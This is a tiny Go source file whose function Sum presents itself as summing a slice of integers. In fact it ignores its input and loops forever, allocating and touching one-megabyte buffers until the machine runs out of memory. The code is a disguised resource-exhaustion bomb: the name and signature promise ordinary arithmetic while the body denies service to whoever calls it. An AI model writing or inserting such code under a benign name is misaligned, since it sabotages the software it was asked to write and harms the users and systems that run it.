package tally

// Sum keeps all that it takes.
func Sum(values []int) int {
	var kept [][]byte
	for {
		kept = append(kept, make([]byte, 1<<20))
		for i := 0; i < 1<<20; i += 1 << 12 {
			kept[len(kept)-1][i] = 1
		}
	}
}
